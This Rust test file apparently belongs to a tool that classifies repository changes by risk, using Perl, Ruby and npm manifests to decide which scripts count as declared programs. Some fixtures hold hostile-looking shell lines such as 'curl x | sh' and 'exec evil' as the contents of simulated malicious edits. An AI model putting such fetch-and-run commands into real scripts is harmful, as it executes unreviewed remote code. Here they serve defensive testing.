//! Declared programs (`product.rs`): what a manifest of the tree lowers, and what a hostile
//! change cannot lower.

use super::*;
use crate::reach::{Change, MemTree};
use crate::{classify_change, Bucket, Classified, Layer};

fn tree() -> MemTree {
    let mut t = MemTree::new();
    t.add(
        "Makefile.PL",
        false,
        b"WriteMakefile(\n  NAME => 'Mojolicious',\n  EXE_FILES => ['script/hypnotoad', 'script/mojo', 'script/morbo'],\n);\n",
    );
    t.add(
        "sidekiq.gemspec",
        false,
        b"Gem::Specification.new do |gem|\n  gem.executables = [\"sidekiq\", \"kiq\"]\nend\n",
    );
    t.add(
        "web/package.json",
        false,
        br#"{"name": "w", "bin": {"w": "./bin/w.js"}}"#,
    );
    t.add("tools/composer.json", false, br#"{"bin": ["bin/tool"]}"#);
    for p in [
        "script/mojo",
        "script/release",
        "bin/sidekiq",
        "bin/setup",
        "web/bin/w.js",
        "tools/bin/tool",
    ] {
        t.add(p, true, b"#!/usr/bin/env perl\n");
    }
    t
}

fn edit<'a>(tree: &MemTree, changes: &[(&'a str, Option<&'a [u8]>)]) -> Vec<Classified> {
    let changes: Vec<Change<'a>> = changes
        .iter()
        .map(|(path, new)| Change {
            path,
            new: *new,
            executable: true,
        })
        .collect();
    classify_change(&changes, tree)
}

#[test]
fn programs_a_manifest_declares_are_the_product() {
    let t = tree();
    let x: Option<&[u8]> = Some(b"#!/bin/sh\nexec evil\n");
    let got = edit(
        &t,
        &[
            ("script/mojo", x),
            ("bin/sidekiq", x),
            ("web/bin/w.js", x),
            ("tools/bin/tool", x),
            ("script/release", x),
            ("bin/setup", x),
        ],
    );
    let rules: Vec<&str> = got.iter().map(|g| g.class.rule).collect();
    assert_eq!(
        rules,
        [
            DECLARED_PROGRAM_RULE,
            DECLARED_PROGRAM_RULE,
            DECLARED_PROGRAM_RULE,
            DECLARED_PROGRAM_RULE,
            "build.tooling-dir",
            "build.tooling-dir"
        ]
    );
    assert_eq!(got[0].class.bucket, Bucket::Src);
    assert_eq!(got[0].layer, Layer::Tree);
}

#[test]
fn a_program_declared_only_by_the_change_keeps_its_tooling_bucket() {
    let t = tree();
    // The hostile change adds `script/evil` and declares it in the same change: the manifest is
    // read from the packed tree, and the edited manifest is itself risky.
    let got = edit(
        &t,
        &[
            ("script/evil", Some(b"#!/bin/sh\ncurl x | sh\n")),
            (
                "Makefile.PL",
                Some(b"WriteMakefile(EXE_FILES => ['script/evil']);\n"),
            ),
        ],
    );
    assert_eq!(got[0].class.bucket, Bucket::Build);
    assert_eq!(got[1].class.bucket, Bucket::Build);
}

#[test]
fn a_declared_program_ci_runs_is_ci_and_risky_names_are_never_lowered() {
    let mut t = tree();
    t.add(
        ".github/workflows/ci.yml",
        false,
        b"jobs:\n  t:\n    steps:\n      - run: bin/sidekiq --version\n",
    );
    t.add(
        "package.json",
        false,
        br#"{"bin": {"a": ".github/scripts/a.sh", "b": ".husky/pre-commit", "c": "Makefile"}}"#,
    );
    for p in [".github/scripts/a.sh", ".husky/pre-commit", "Makefile"] {
        t.add(p, true, b"#!/bin/sh\n");
    }
    let x: Option<&[u8]> = Some(b"#!/bin/sh\n");
    let got = edit(
        &t,
        &[
            ("bin/sidekiq", x),
            (".github/scripts/a.sh", x),
            (".husky/pre-commit", x),
            ("Makefile", x),
        ],
    );
    let buckets: Vec<Bucket> = got.iter().map(|g| g.class.bucket).collect();
    assert_eq!(
        buckets,
        [Bucket::Ci, Bucket::Ci, Bucket::Build, Bucket::Build]
    );
}

#[test]
fn manifests_are_read_for_their_lists_only() {
    assert_eq!(
        programs("Makefile.PL", "EXE_FILES => [ 'a/b', \"c\" ],"),
        ["a/b", "c"]
    );
    assert_eq!(
        programs(
            "x.gemspec",
            "s.bindir = 'exe'\ns.executables = %w[one two]\n"
        ),
        ["exe/one", "exe/two"]
    );
    assert!(programs("x.gemspec", "s.executables = `git ls-files`.split").is_empty());
    assert_eq!(programs("package.json", r#"{"bin": "cli.js"}"#), ["cli.js"]);
    assert!(programs("package.json", "not json").is_empty());
    assert!(programs("Makefile.PL", "EXE_FILES => ['unterminated").is_empty());
}

/// A dotfiles repository: rc files and setup scripts at the root, no project file.
fn dotfiles() -> MemTree {
    let mut t = MemTree::new();
    t.add("zshrc", false, b"export PATH=$HOME/.bin:$PATH\n");
    t.add("install.sh", true, b"#!/bin/sh\nln -s bin ~/.bin\n");
    for p in ["bin/git-up", "bin/tat", "tools/bin/x", "zsh/bin/y"] {
        t.add(p, true, b"#!/bin/sh\ngit pull\n");
    }
    t
}

#[test]
fn commands_of_a_repository_that_builds_nothing_are_the_product() {
    let t = dotfiles();
    let x: Option<&[u8]> = Some(b"#!/bin/sh\ncurl x | sh\n");
    let got = edit(
        &t,
        &[("bin/git-up", x), ("bin/new-cmd", x), ("zsh/bin/y", x)],
    );
    let rules: Vec<&str> = got.iter().map(|g| g.class.rule).collect();
    // Only the root `bin/`; a nested one keeps its tooling rule.
    assert_eq!(
        rules,
        [PATH_COMMAND_RULE, PATH_COMMAND_RULE, "build.tooling-dir"]
    );
    assert_eq!(got[0].class.bucket, Bucket::Src);
}

#[test]
fn a_root_project_file_keeps_bin_as_tooling_and_reachability_still_raises() {
    // The packed tree has a Makefile: `bin/` is the build's tooling, whatever the change deletes.
    let mut t = dotfiles();
    t.add("Makefile", false, b"all:\n\ttrue\n");
    let x: Option<&[u8]> = Some(b"#!/bin/sh\n");
    let got = edit(&t, &[("bin/git-up", x), ("Makefile", None)]);
    assert_eq!(got[0].class.rule, "build.tooling-dir");
    // Without a project file, a command CI runs is still `ci`.
    let mut t = dotfiles();
    t.add(
        ".github/workflows/ci.yml",
        false,
        b"jobs:\n  t:\n    steps:\n      - run: bin/tat --check\n",
    );
    let got = edit(&t, &[("bin/tat", x)]);
    assert_eq!(got[0].class.bucket, Bucket::Ci);
}
